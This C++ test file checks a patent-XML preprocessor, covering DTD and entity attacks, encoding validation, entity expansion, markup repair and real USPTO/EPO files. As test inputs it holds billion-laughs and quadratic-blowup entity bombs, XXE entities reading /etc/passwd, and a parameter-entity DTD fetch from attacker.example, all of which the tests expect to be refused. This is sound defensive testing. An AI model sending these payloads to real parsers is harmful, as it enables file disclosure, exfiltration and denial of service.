// Tests for PrepareXml: refused DTD attacks, encoding checks, entity
// expansion and repairs, and every real USPTO/EPO file in ../shared/data.
#include "readers/xml_prepare.h"

#include <algorithm>
#include <chrono>
#include <filesystem>
#include <regex>
#include <string>
#include <vector>

#include <gtest/gtest.h>
#include <pugixml.hpp>

#include "testing.h"

namespace patnav {
namespace {

PreparedXml MustPrepare(std::string_view raw) {
  Result<PreparedXml> r = PrepareXml(raw);
  EXPECT_TRUE(r.ok()) << r.status().ToString();
  return r.ok() ? std::move(r).value() : PreparedXml{};
}

std::string Text(std::string_view raw) { return MustPrepare(raw).text; }

// The text content of the root element after a pugixml parse of the output.
std::string ParsedText(std::string_view raw) {
  const std::string text = Text(raw);
  pugi::xml_document doc;
  const pugi::xml_parse_result parsed = doc.load_buffer(text.data(), text.size(), pugi::parse_default);
  EXPECT_TRUE(parsed) << parsed.description() << " in: " << text;
  return doc.document_element().text().get();
}

void ExpectRefused(std::string_view raw, StatusCode code, const std::string& message) {
  Result<PreparedXml> r = PrepareXml(raw);
  ASSERT_FALSE(r.ok()) << "accepted: " << r->text;
  EXPECT_EQ(r.status().code(), code) << r.status().ToString();
  EXPECT_EQ(r.status().message(), message);
}

// --- DTD attacks -----------------------------------------------------------

TEST(XmlPrepareTest, RefusesBillionLaughs) {
  ExpectRefused(R"(<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>)",
                StatusCode::kUnsupported, "nested entity 'lol2' refused: entity expansion (billion laughs) is not allowed");
}

TEST(XmlPrepareTest, RefusesExternalEntity) {
  ExpectRefused(R"(<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE foo [ <!ELEMENT foo ANY > <!ENTITY xxe SYSTEM "file:///etc/passwd" >]>
<foo>&xxe;</foo>)",
                StatusCode::kUnsupported,
                "external entity 'xxe' refused (SYSTEM \"file:///etc/passwd\"): external entities are never resolved");
}

TEST(XmlPrepareTest, RefusesPublicExternalEntity) {
  ExpectRefused(R"(<!DOCTYPE a [<!ENTITY x PUBLIC "-//X//EN" 'http://evil.example/x'>]><a>&x;</a>)",
                StatusCode::kUnsupported,
                "external entity 'x' refused (PUBLIC \"-//X//EN\" \"http://evil.example/x\"): external entities "
                "are never resolved");
}

TEST(XmlPrepareTest, RefusesParameterEntityDtdFetch) {
  ExpectRefused(R"(<?xml version="1.0"?>
<!DOCTYPE data [
  <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
  %remote;
]>
<data>&exfil;</data>)",
                StatusCode::kUnsupported, "parameter entity '%remote' refused: DTDs are never loaded");
}

TEST(XmlPrepareTest, RefusesParameterEntityReferences) {
  ExpectRefused("<!DOCTYPE a [ %ISOlat1; ]><a/>", StatusCode::kUnsupported,
                "parameter entity '%ISOlat1' refused: DTDs are never loaded");
  ExpectRefused("<!DOCTYPE a [ <!ENTITY x \"%p;\"> ]><a/>", StatusCode::kUnsupported,
                "parameter entity '%p' refused: DTDs are never loaded");
  ExpectRefused("<!DOCTYPE a [ <![%draft;[ <!ENTITY x \"y\"> ]]> ]><a/>", StatusCode::kUnsupported,
                "parameter entity '%draft' refused: DTDs are never loaded");
}

TEST(XmlPrepareTest, RefusesQuadraticBlowup) {
  const std::string big(100000, 'x');
  std::string doc = "<!DOCTYPE a [<!ENTITY big \"" + big + "\">]><a>";
  for (int i = 0; i < 1000; ++i) doc += "&big;";
  doc += "</a>";
  Result<PreparedXml> r = PrepareXml(doc);
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.status().code(), StatusCode::kUnsupported);
  EXPECT_NE(r.status().message().find("quadratic blowup"), std::string::npos) << r.status().message();
}

TEST(XmlPrepareTest, UnterminatedDoctypeIsCorruption) {
  ExpectRefused("<?xml version=\"1.0\"?>\n<!DOCTYPE a SYSTEM \"a.dtd\" [ <!ENTITY x \"y\">", StatusCode::kCorruption,
                "unterminated DOCTYPE starting at byte 22");
}

// --- DOCTYPE handling ----------------------------------------------------------

TEST(XmlPrepareTest, RemovesExternalDtdReference) {
  EXPECT_EQ(Text("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
                 "<!DOCTYPE us-patent-grant SYSTEM \"us-patent-grant-v45-2014-04-03.dtd\" [ ]>\n<a/>"),
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n\n<a/>");
  EXPECT_EQ(Text("<!DOCTYPE ep-patent-document PUBLIC \"-//EPO//EP PATENT DOCUMENT 1.5//EN\" "
                 "\"ep-patent-document-v1-5.dtd\"><a/>"),
            "<a/>");
}

TEST(XmlPrepareTest, NdataImagesPass) {
  const PreparedXml p = MustPrepare(R"(<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE PATDOC SYSTEM "ST32-US-Grant-025xml.dtd" [
<!ENTITY US06336130-20020101-D00000.TIF SYSTEM "US06336130-20020101-D00000.TIF" NDATA TIF>
<!ENTITY US06336130-20020101-D00001.TIF PUBLIC "-//USPTO//IMG//EN" "US06336130-20020101-D00001.TIF" NDATA TIF>
]>
<PATDOC DTD="2.5"><EMI FILE="US06336130-20020101-D00000.TIF"/></PATDOC>)");
  EXPECT_EQ(p.text, "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n\n"
                    "<PATDOC DTD=\"2.5\"><EMI FILE=\"US06336130-20020101-D00000.TIF\"/></PATDOC>");
  EXPECT_EQ(p.repairs, 0);
}

TEST(XmlPrepareTest, DoctypeScanningIsQuoteCommentAndBracketAware) {
  const std::string raw = R"(<!-- <!DOCTYPE fake [ -->
<!DOCTYPE a SYSTEM "x]>.dtd" [
  <!-- a comment with ]> and <!ENTITY % p SYSTEM "no"> inside -->
  <?pi ]> ?>
  <!ELEMENT a (#PCDATA|b)*>
  <!ATTLIST a note CDATA "]> quoted %not-a-ref">
  <!NOTATION TIF SYSTEM "image/tiff">
  <![IGNORE[ <![INCLUDE[ ]]> <!ENTITY ignored SYSTEM "file:///etc/passwd"> ]]>
  <!ENTITY co 'Acme ]> "Corp"'>
]>
<a>&co;</a>)";
  const PreparedXml p = MustPrepare(raw);
  EXPECT_EQ(p.text, "<!-- <!DOCTYPE fake [ -->\n\n<a>Acme ]> &quot;Corp&quot;</a>");
  EXPECT_EQ(ParsedText(raw), "Acme ]> \"Corp\"");
}

TEST(XmlPrepareTest, ExpandsSimpleInternalEntityOnceAsText) {
  const std::string raw = R"(<!DOCTYPE a [
<!ENTITY co "Acme &amp; Sons &#169;">
<!ENTITY tag "<b>not markup</b>">
<!ENTITY co "second declaration is ignored">
]><a t="&co;">&co; &tag;</a>)";
  EXPECT_EQ(Text(raw), "<a t=\"Acme &amp; Sons &#169;\">Acme &amp; Sons &#169; &lt;b>not markup&lt;/b></a>");
  EXPECT_EQ(ParsedText(raw), "Acme & Sons \u00A9 <b>not markup</b>");
}

TEST(XmlPrepareTest, LowercaseDoctypeRemoved) { EXPECT_EQ(Text("<!doctype html><a/>"), "<a/>"); }

// --- encodings -------------------------------------------------------------------

TEST(XmlPrepareTest, InvalidUtf8ReportsByteOffset) {
  ExpectRefused("<a>ok \xC3\x28</a>", StatusCode::kCorruption, "invalid UTF-8 at byte 6");
  ExpectRefused("<a>\xED\xA0\x80</a>", StatusCode::kCorruption, "invalid UTF-8 at byte 3");  // surrogate
  ExpectRefused("<a>\xC0\xAF</a>", StatusCode::kCorruption, "invalid UTF-8 at byte 3");      // overlong
  ExpectRefused("<a>\xF4\x90\x80\x80</a>", StatusCode::kCorruption, "invalid UTF-8 at byte 3");
  ExpectRefused("<a>\xE2\x82", StatusCode::kCorruption, "invalid UTF-8 at byte 3");  // cut short
  // Offsets count the BOM and the long ASCII prefix.
  std::string long_doc = "\xEF\xBB\xBF<a>" + std::string(1000, 'x') + "\xFF</a>";
  ExpectRefused(long_doc, StatusCode::kCorruption, "invalid UTF-8 at byte 1006");
}

TEST(XmlPrepareTest, DropsBom) { EXPECT_EQ(Text("\xEF\xBB\xBF<a>\xC3\xA9</a>"), "<a>\xC3\xA9</a>"); }

TEST(XmlPrepareTest, TranscodesLatin1) {
  const std::string raw = "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><a t=\"M\xFCller\">Gr\xF6\xDF" "e \x93q\x94</a>";
  const PreparedXml p = MustPrepare(raw);
  EXPECT_EQ(p.text, "<?xml version=\"1.0\" encoding=\"UTF-8\"?><a t=\"M\u00FCller\">Gr\u00F6\u00DF" "e \u201Cq\u201D</a>");
  pugi::xml_document doc;
  ASSERT_TRUE(doc.load_buffer(p.text.data(), p.text.size()));
  EXPECT_STREQ(doc.child("a").attribute("t").value(), "M\u00FCller");
}

TEST(XmlPrepareTest, Latin1LabelOnUtf8BytesKeepsUtf8) {
  EXPECT_EQ(Text("<?xml version='1.0' encoding='iso-8859-1'?><a>\xC3\xA9</a>"),
            "<?xml version='1.0' encoding='UTF-8'?><a>\xC3\xA9</a>");
}

TEST(XmlPrepareTest, RefusesUnsupportedEncodings) {
  ExpectRefused("<?xml version=\"1.0\" encoding=\"Shift_JIS\"?><a>\x93\xFA</a>", StatusCode::kUnsupported,
                "encoding 'Shift_JIS' is not supported (only UTF-8 and ISO-8859-1): bytes are not UTF-8 at byte 45");
  const std::string utf16("\xFF\xFE<\0a\0/\0>\0", 10);
  Result<PreparedXml> r = PrepareXml(utf16);
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.status().code(), StatusCode::kUnsupported);
}

// --- references and repairs ------------------------------------------------

TEST(XmlPrepareTest, ExpandsSgmlNamedEntities) {
  const PreparedXml p = MustPrepare("<a>&ldquo;Fl&ouml;te&rdquo; 5 &mgr;m, &lgr;=2 &PHgr;&lsqb;1&rsqb;</a>");
  EXPECT_EQ(p.text, "<a>\u201CFl\u00F6te\u201D 5 \u03BCm, \u03BB=2 \u03A6[1]</a>");
  EXPECT_EQ(p.repairs, 0);
}

TEST(XmlPrepareTest, KeepsPredefinedAndValidCharacterReferences) {
  const std::string raw = "<a>&amp; &lt; &gt; &quot; &apos; &#123; &#x1F; &#x3bc; &#X3BC;</a>";
  const PreparedXml p = MustPrepare(raw);
  EXPECT_EQ(p.text, "<a>&amp; &lt; &gt; &quot; &apos; &#123; &#x1F; &#x3bc; &#x3BC;</a>");
  EXPECT_EQ(p.repairs, 0);
}

TEST(XmlPrepareTest, ReplacesInvalidCharacterReferences) {
  const PreparedXml p = MustPrepare("<a>&#0;|&#xD800;|&#x110000;|&#99999999999999999999;</a>");
  EXPECT_EQ(p.text, "<a>\uFFFD|\uFFFD|\uFFFD|\uFFFD</a>");
  EXPECT_EQ(p.repairs, 4);
}

TEST(XmlPrepareTest, EscapesEntityTextThatLooksLikeMarkup) {
  EXPECT_EQ(Text("<a t=\"&QUOT;&nvlt;\">&AMP;&LT;</a>"), "<a t=\"&quot;&lt;\u20D2\">&amp;&lt;</a>");
}

TEST(XmlPrepareTest, UnknownEntityKeptAsVisibleText) {
  const std::string raw = "<a>x &nosuch; y</a>";
  const PreparedXml p = MustPrepare(raw);
  EXPECT_EQ(p.text, "<a>x &amp;nosuch; y</a>");
  EXPECT_EQ(p.repairs, 1);
  EXPECT_EQ(p.unknown_entities, 1);
  EXPECT_EQ(ParsedText(raw), "x &nosuch; y");
}

TEST(XmlPrepareTest, RepairsBareAmpersand) {
  const std::string raw = "<a>AT&T, R&D & Co &#; &#x; &#12 &nbsp &</a>";
  const PreparedXml p = MustPrepare(raw);
  EXPECT_EQ(p.text, "<a>AT&amp;T, R&amp;D &amp; Co &amp;#; &amp;#x; &amp;#12 &amp;nbsp &amp;</a>");
  EXPECT_EQ(p.repairs, 8);
  EXPECT_EQ(p.unknown_entities, 0);
  EXPECT_EQ(ParsedText(raw), "AT&T, R&D & Co &#; &#x; &#12 &nbsp &");
}

TEST(XmlPrepareTest, RepairsStrayLessThan) {
  const std::string raw = "<a>a < b, x<5, y<=z, <-arrow, \xE2\x89\xA4 <\xE2\x89\xA4</a>";
  const PreparedXml p = MustPrepare(raw);
  EXPECT_EQ(p.text, "<a>a &lt; b, x&lt;5, y&lt;=z, &lt;-arrow, \xE2\x89\xA4 &lt;\xE2\x89\xA4</a>");
  EXPECT_EQ(p.repairs, 5);
  EXPECT_EQ(ParsedText(raw), "a < b, x<5, y<=z, <-arrow, \u2264 <\u2264");
}

TEST(XmlPrepareTest, NonAsciiNameStartsATag) {
  EXPECT_EQ(Text("<a><\xC3\xA9l\xC3\xA8ve/></a>"), "<a><\xC3\xA9l\xC3\xA8ve/></a>");
}

TEST(XmlPrepareTest, RepairsInsideAttributeValues) {
  const std::string raw = "<a t=\"R&D &ldquo;x&rdquo; 1<2 &mgr;\" u='&#0; &foo; &apos;'/>";
  const PreparedXml p = MustPrepare(raw);
  EXPECT_EQ(p.text, "<a t=\"R&amp;D \u201Cx\u201D 1&lt;2 \u03BC\" u='\uFFFD &amp;foo; &apos;'/>");
  EXPECT_EQ(p.repairs, 4);
  pugi::xml_document doc;
  ASSERT_TRUE(doc.load_buffer(p.text.data(), p.text.size()));
  EXPECT_STREQ(doc.child("a").attribute("t").value(), "R&D \u201Cx\u201D 1<2 \u03BC");
  EXPECT_STREQ(doc.child("a").attribute("u").value(), "\uFFFD &foo; '");
}

TEST(XmlPrepareTest, LeavesCdataCommentsAndPisUntouched) {
  const std::string raw =
      "<a><![CDATA[a < b && &mgr; ]]><!-- x < y & &lgr; --><?pi a<b & &c; ?>&amp;<![CDATA[<]]></a>";
  const PreparedXml p = MustPrepare(raw);
  EXPECT_EQ(p.text, raw);
  EXPECT_EQ(p.repairs, 0);
}

TEST(XmlPrepareTest, ReplacesNulBytes) {
  const std::string raw("<a>x\0y<![CDATA[\0]]></a>", 23);
  const PreparedXml p = MustPrepare(raw);
  EXPECT_EQ(p.text, "<a>x\uFFFDy<![CDATA[\uFFFD]]></a>");
  EXPECT_EQ(p.repairs, 2);
}

TEST(XmlPrepareTest, TruncatedDocumentStillReturnsText) {
  for (std::string raw : {"<a><b t=\"x", "<a><b", "<a>text &am", "<a><!-- open", "<a><![CDATA[ open", "<a><", "<a>&"}) {
    Result<PreparedXml> r = PrepareXml(raw);
    ASSERT_TRUE(r.ok()) << raw << ": " << r.status().ToString();
    EXPECT_FALSE(r->text.empty());
    pugi::xml_document doc;
    EXPECT_FALSE(doc.load_buffer(r->text.data(), r->text.size())) << "pugixml should reject: " << r->text;
  }
  EXPECT_EQ(Text("<a>text &am"), "<a>text &amp;am");
}

TEST(XmlPrepareTest, MismatchedTagsLeftForPugixml) {
  const PreparedXml p = MustPrepare("<a><b></a>");
  EXPECT_EQ(p.text, "<a><b></a>");
  pugi::xml_document doc;
  EXPECT_FALSE(doc.load_buffer(p.text.data(), p.text.size()));
}

TEST(XmlPrepareTest, HostileInputIsLinear) {
  // Patterns that would be quadratic with a naive rescan.
  std::string amps(4 << 20, '&');
  std::string names = "<a>";
  for (int i = 0; i < (1 << 16); ++i) names += "&" + std::string(100, 'n');
  std::string lts(4 << 20, '<');
  std::string comment = "<a><!--" + std::string(4 << 20, '-');
  std::string nested = "<!DOCTYPE a [" ;
  for (int i = 0; i < (1 << 18); ++i) nested += "<![ IGNORE [";
  const auto start = std::chrono::steady_clock::now();
  for (const std::string* raw : {&amps, &names, &lts, &comment, &nested}) {
    Result<PreparedXml> r = PrepareXml(*raw);
    if (r.ok()) {
      EXPECT_LE(r->text.size(), raw->size() * 5 + 64);
    }
  }
  const double seconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  EXPECT_LT(seconds, 10.0);
}

// --- real data -------------------------------------------------------------------

std::vector<std::filesystem::path> RealXmlFiles() {
  std::vector<std::filesystem::path> files;
  for (const char* dir : {"uspto", "epo"}) {
    const std::filesystem::path root = testing::SharedData() / dir;
    if (!std::filesystem::exists(root)) continue;
    for (const auto& entry : std::filesystem::recursive_directory_iterator(root)) {
      if (entry.is_regular_file() && entry.path().extension() == ".xml") files.push_back(entry.path());
    }
  }
  std::sort(files.begin(), files.end());
  return files;
}

TEST(XmlPrepareRealDataTest, EveryUsptoAndEpoFilePreparesAndParses) {
  PATNAV_REQUIRE_SHARED_DATA();
  const auto files = RealXmlFiles();
  ASSERT_FALSE(files.empty());
  const std::regex leftover("&amp;[A-Za-z][A-Za-z0-9._-]*;");
  for (const auto& path : files) {
    SCOPED_TRACE(path.string());
    const std::string raw = testing::ReadFile(path);
    Result<PreparedXml> r = PrepareXml(raw);
    ASSERT_TRUE(r.ok()) << r.status().ToString();
    // No unknown entity left and nothing else needed repairing in these files.
    EXPECT_EQ(r->unknown_entities, 0);
    EXPECT_EQ(r->repairs, 0);
    if (r->unknown_entities > 0) {
      for (std::sregex_iterator it(r->text.begin(), r->text.end(), leftover), end; it != end; ++it) {
        ADD_FAILURE() << "unknown entity " << it->str().substr(4);
      }
    }
    pugi::xml_document doc;
    const pugi::xml_parse_result parsed = doc.load_buffer(r->text.data(), r->text.size(), pugi::parse_default);
    EXPECT_TRUE(parsed) << parsed.description() << " at offset " << parsed.offset;
    EXPECT_TRUE(doc.document_element());
    pugi::xml_document with_doctype;
    ASSERT_TRUE(with_doctype.load_buffer(r->text.data(), r->text.size(), pugi::parse_default | pugi::parse_doctype));
    for (const pugi::xml_node node : with_doctype.children()) EXPECT_NE(node.type(), pugi::node_doctype);
  }
}

TEST(XmlPrepareRealDataTest, SgmlEraEntitiesBecomeText) {
  PATNAV_REQUIRE_SHARED_DATA();
  const std::filesystem::path path = testing::SharedData() / "uspto/sgml/US06337117.xml";
  if (!std::filesystem::exists(path)) GTEST_SKIP() << path << " absent";
  const std::string raw = testing::ReadFile(path);
  ASSERT_NE(raw.find("&mgr;"), std::string::npos);
  const PreparedXml p = MustPrepare(raw);
  EXPECT_EQ(p.text.find("&mgr;"), std::string::npos);
  EXPECT_EQ(p.text.find("&lsqb;"), std::string::npos);
  EXPECT_NE(p.text.find("\u03BC"), std::string::npos);
}

}  // namespace
}  // namespace patnav
